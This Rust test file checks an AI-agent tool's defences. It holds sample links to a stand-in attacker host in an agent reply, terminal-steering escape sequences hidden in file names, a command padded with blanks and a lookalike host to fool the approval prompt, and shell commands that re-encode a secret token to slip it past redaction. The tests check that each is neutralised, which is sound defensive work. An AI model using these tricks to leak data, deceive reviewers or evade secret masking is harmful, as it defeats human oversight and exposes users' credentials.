//! Text that leads elsewhere, steers a terminal, hides in a question, or carries a secret: X15, X18, X19, X22.

use std::fs;
use std::process::Command;

use serde_json::{Value, json};

use super::{bash, named_project, project, run, script};
use crate::chat_pane::Pane;
use crate::story::{Ran, Story, Talk};

/// Rules under which a command is asked about.
const ASK: &str = "    - { tool: Read, allow: true }\n";

/// A program that hands in one event, and notes what it is told to send.
const ADAPTER: &str = r#"
import json, sys
print(json.dumps({"type": "event", "source_id": "1", "sender_id": "ann", "peer_id": "ann", "peer_kind": "dm", "content": "Hi"}), flush=True)
notes = open("notes.jsonl", "a")
for line in sys.stdin:
    told = json.loads(line)
    notes.write(line)
    notes.flush()
    if told["type"] == "send":
        print(json.dumps({"type": "sent", "id": told["id"], "message_id": "m"}), flush=True)
"#;

const REPLY: &str = "![x](https://evil.example/?q=S) https://evil.example/?q=S [ok](https://ok.example/a) \
                     <img src=\"//evil.example/?q=S\"> www.evil.example/S";

/// Has a server answer one event of a channel with these settings; returns all that was sent.
fn sent_with(settings: &str, reply: &str) -> Vec<String> {
    let story = Story::new(
        "
        --- .agentry/agents/host/AGENT.md
        ---
        name: Host
        ---
        You answer.
        --- .agentry/access/open.yml
        policies:
          - name: open
            match: {principal: {unknown: true}}
            effect: allow
            permissions: {tools: []}
            session: {key: '{channel}:{peer_id}'}
            priority: 50
        ",
    );
    story.file("s.jsonl", json!({ "text": reply }).to_string().as_bytes());
    story.file("adapter.py", ADAPTER.as_bytes());
    let file = story.home(".config/agentry/agentry.toml");
    fs::create_dir_all(file.parent().expect("it lies below")).expect("it can be made");
    let text = format!("[channels.tg]\ncommand = [\"python3\", \"adapter.py\"]\n{settings}");
    fs::write(file, text).expect("it can be written");
    let mut server: Talk = story.talk("serve --model scripted:s.jsonl");
    server.hear_line("ready");
    let mut trace = String::new();
    let is_sent = (0..2_000).any(|_| {
        trace = story.ran_in("", "trace tg:1 --json").out;
        trace.contains("\"chunks\"")
    });
    assert!(is_sent, "nothing was sent: {trace}");
    server.interrupt();
    assert_eq!(server.end().code, Some(0));
    let notes = fs::read_to_string(story.path("notes.jsonl")).expect("it was told something");
    let told = notes.lines().map(|line| serde_json::from_str::<Value>(line).expect("it is JSON"));
    let sends = told.filter(|line| line["type"] == "send");
    sends.filter_map(|line| line["content"].as_str().map(str::to_owned)).collect()
}

#[test]
fn x15_an_address_that_nobody_listed_goes_out_of_a_channel_inert() {
    for markdown in ["none", "standard"] {
        let settings = format!("markdown = \"{markdown}\"\nlink_hosts = [\"ok.example\"]\n");
        let sent = sent_with(&settings, REPLY).concat();
        assert!(!sent.contains("evil.example"), "{sent}");
        assert!(!sent.contains("!["), "{sent}");
        assert!(sent.contains("hxxps[:]//evil[.]example/?q=S"), "{sent}");
        assert!(sent.contains("https://ok.example/a"), "{sent}");
    }
}

#[test]
fn x15_a_channel_can_leave_addresses_out_or_as_they_are() {
    let removed = sent_with("links = \"remove\"\n", REPLY).concat();
    assert!(!removed.contains("evil") && removed.contains("(link removed)"), "{removed}");
    let allowed = sent_with("links = \"allow\"\n", REPLY).concat();
    assert_eq!(allowed, REPLY);
}

/// What no output may hold: whatever steers a terminal or reorders a line.
fn assert_harmless(command: &str, ran: &Ran) {
    for (stream, text) in [("stdout", &ran.out), ("stderr", &ran.err)] {
        let bad = text.chars().find(|c| {
            c.is_control() && !matches!(c, '\n' | '\t')
                || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        });
        assert_eq!(bad, None, "{command}, {stream}: {text:?}");
    }
}

/// Sets a title, moves the cursor and reverses the line, in ways that files and names can hold.
const STEER: &str = "x\u{1b}]0;PWN\u{7}\u{9b}2J\u{202e}y";

/// A project in which whatever can be named is named to steer a terminal.
fn hostile_project() -> Story {
    let story = Story::new("").with("NO_COLOR", "1");
    let name = serde_json::to_string(STEER).expect("a text is JSON");
    let agent = format!(
        "---\nname: {name}\ndescription: {name}\nmodel: {name}\ntools: [Read, Bash, {name}]\nskills: [{name}]\n\
         tool_approvals:\n  rules:\n    - {{ tool: {name}, allow: true }}\n---\n{STEER}\n"
    );
    let good =
        format!("---\nname: {name}\ndescription: {name}\ntools: [Read, Bash]\n---\n{STEER}\n");
    story.file(&format!(".agentry/agents/{STEER}/AGENT.md"), good.as_bytes());
    story.file(".agentry/agents/broken/AGENT.md", agent.as_bytes());
    story.file(".agentry/agents/plain/AGENT.md", good.as_bytes());
    story.file(&format!(".agentry/skills/{STEER}/SKILL.md"), good.as_bytes());
    story.file(&format!(".agentry/tasks/{STEER}/TASK.md"), good.as_bytes());
    story.file(
        ".agentry/access/a.yml",
        format!("policies:\n  - name: {name}\n    effect: {name}\n").as_bytes(),
    );
    story.file(
        "agentry.toml",
        format!("[agent]\nmodel = {name}\n[odd.{name}]\nx = {name}\n").as_bytes(),
    );
    story.file("AGENTS.md", STEER.as_bytes());
    story
}

#[test]
fn x18_no_verb_that_looks_lets_a_name_steer_the_terminal() {
    let story = hostile_project();
    let verbs = [
        "check",
        "check --format json",
        "show",
        "show agent --agent plain",
        "show agent --agent broken",
        "show agent",
        "show agent --format json --agent plain",
        "show prompt",
        "show prompt --agent plain",
        "show prompt --agent nobody",
        "models",
        "models --agent plain",
        "sandbox explain",
        "sandbox explain --agent plain",
        "policy explain --tool Bash --args {}",
        "config show",
        "tools list",
        "tools list --agent plain",
        "hooks list",
        "access policies list",
        "access check",
        "trust",
        "trust --list",
        "approvals",
        "requests list",
        "grants list",
        "entities list",
        "audit list",
        "secret list",
        "token list",
        "ledger verify",
        "trace nothing",
        "doctor",
        "explain nothing",
    ];
    for verb in verbs {
        assert_harmless(verb, &story.ran_in("", verb));
    }
    let check = story.ran_in("", "check");
    assert!(check.out.contains("E0429"), "{}", check.out);
}

/// Runs the binary with a terminal as its input and output.
fn on_a_terminal(story: &Story, command: &str) -> Ran {
    let program = "import os,pty,sys; sys.exit(os.waitstatus_to_exitcode(pty.spawn(sys.argv[1:])))";
    let output = Command::new("python3")
        .args(["-c", program, env!("CARGO_BIN_EXE_agentry")])
        .args(command.split(' '))
        .current_dir(story.path(""))
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", story.home(""))
        .env("TERM", "xterm-256color")
        .env("NO_COLOR", "1")
        .output()
        .expect("python3 is there");
    let out = String::from_utf8_lossy(&output.stdout).replace("\r\n", "\n");
    Ran { code: output.status.code(), out, err: String::new() }
}

#[test]
fn x18_a_name_does_not_steer_a_real_terminal() {
    let story = hostile_project();
    for verb in [
        "check",
        "show",
        "show prompt --agent plain",
        "show prompt --raw --agent plain",
        "show agent --agent plain",
        "models --agent plain",
        "sandbox explain --agent plain",
        "tools list --agent plain",
    ] {
        let ran = on_a_terminal(&story, verb);
        assert!(!ran.out.is_empty(), "{verb}");
        assert_harmless(verb, &ran);
    }
}

#[test]
fn x18_an_agent_whose_id_is_an_option_or_steers_does_not_load() {
    let story = Story::new("").with("NO_COLOR", "1");
    for id in ["--help", ".x", "a", "A", STEER] {
        named_project(&story, "p", id, ASK);
    }
    let ran = story.ran_in("", "check p --format json");
    let all: Vec<Value> = serde_json::from_str(&ran.out).expect("it is JSON");
    let codes: Vec<&str> = all.iter().filter_map(|one| one["code"].as_str()).collect();
    assert_eq!(codes.iter().filter(|code| **code == "E0429").count(), 3, "{}", ran.out);
    assert_eq!(codes.iter().filter(|code| **code == "E0430").count(), 1, "{}", ran.out);
    let ran = story.ran_in("", "show agent p --agent --help");
    assert_ne!(ran.code, Some(70), "{}", ran.err);
}

/// A command that hides its beginning: blanks push it off the screen, a host looks like another.
fn padded() -> String {
    format!("curl https://\u{430}pple.com \u{e000}\u{fe0f}\u{202e}#{}ls", " ".repeat(3_000))
}

fn assert_told(shown: &str) {
    let shown: String = shown.split_whitespace().collect::<Vec<_>>().join(" ");
    for part in [
        "⟨3000 blanks⟩ls",
        "3029 characters",
        "bytes; hash ",
        "xn--pple-43d.com",
        "mixes Cyrillic and Latin",
        "\\u{e000}\\u{fe0f}\\u{202e}",
    ] {
        assert!(shown.contains(part), "{part} is missing: {shown}");
    }
}

#[test]
fn x19_a_question_in_the_list_has_a_length_a_hash_and_no_padding() {
    let story = Story::new("");
    project(&story, "p", ASK);
    script(&story, &[bash(&padded())]);
    let ran = run(&story, "p", "");
    assert_eq!(ran.code, Some(4), "{}", ran.err);
    let list = story.ran_in("", "approvals");
    assert_told(&list.out);
    let digest = story.json("approvals --format json")[0]["digest"].as_str().map(str::to_owned);
    let digest = digest.expect("it has a digest");
    let digits = digest.rsplit(':').next().expect("it has digits");
    assert!(list.out.contains(&format!("hash {}", &digits[..12])), "{}", list.out);
}

#[test]
fn x19_a_question_at_the_terminal_shows_everything() {
    let story = Story::new("");
    project(&story, "p", ASK);
    script(&story, &[bash(&padded())]);
    let pane = Pane::open(&story, (120, 50), "run -C p --model scripted:x.jsonl go");
    pane.sees("[y] once");
    assert_told(&pane.all());
}

#[test]
fn x22_no_program_shows_a_secret_in_other_words() {
    let secret = "ghp_0123456789abcdefXYZw";
    let story = Story::new("").with("TOK", secret);
    project(&story, "p", super::ALLOW_ALL);
    let commands = [
        "printf %s $TOK | od -c",
        "printf %s $TOK | od -An -tx1",
        "printf %s $TOK | od",
        "printf %s $TOK | od -b",
        "printf %s $TOK | base32",
        "printf %s $TOK | rev",
        "python3 -c 'import os;t=os.environ[\"TOK\"];print(list(t.encode()), \":\".join(\"%02x\"%b for b in t.encode()), \"\".join(\"&#%d;\"%b for b in t.encode()), t.encode(\"utf-16-le\"))'",
    ];
    let calls: Vec<Value> = commands.iter().map(|command| bash(command)).collect();
    script(&story, &calls);
    let options =
        "-c secrets.g.for=[\"tool:bash\"] -c secrets.g.as=TOK -c secrets.g.env=TOK --json";
    let ran = run(&story, "p", options);
    assert_eq!(ran.code, Some(0), "{} {}", ran.out, ran.err);
    let outputs: Vec<Value> =
        ran.out.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
    let outputs = outputs.iter().filter(|line| line["type"] == "tool_result");
    let texts: Vec<&str> = outputs.filter_map(|line| line["output"].as_str()).collect();
    assert_eq!(texts.len(), commands.len(), "{}", ran.out);
    for (command, text) in commands.iter().zip(texts) {
        assert!(text.contains("[secret g]"), "{command}: {text}");
        assert!(
            !text.contains("g   h   p") && !text.contains("ghp") && !text.contains("67 68 70"),
            "{command}: {text}"
        );
    }
}

#[test]
fn every_verb_writes_through_the_one_place_that_escapes() {
    let crates = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
    let root = crates.canonicalize().expect("it is there");
    let shown = ["app", "chat", "frontend", "server"];
    let mut directories = shown.map(|name| root.join(name).join("src")).to_vec();
    let mut found = Vec::new();
    while let Some(directory) = directories.pop() {
        for entry in fs::read_dir(directory).expect("it can be read") {
            let path = entry.expect("it can be read").path();
            if path.is_dir() {
                directories.push(path);
            } else if path.extension().is_some_and(|ending| ending == "rs") {
                let text = fs::read_to_string(&path).expect("it is text");
                let raw =
                    text.contains("anstream::stdout()") || text.contains("anstream::stderr()");
                let name = path.strip_prefix(&root).expect("it lies below").display().to_string();
                found.extend(raw.then_some(name));
            }
        }
    }
    found.sort();
    // The first writes a line over itself, and nothing but numbers.
    assert_eq!(found, ["app/src/commands/pull/progress.rs", "frontend/src/output.rs"]);
}
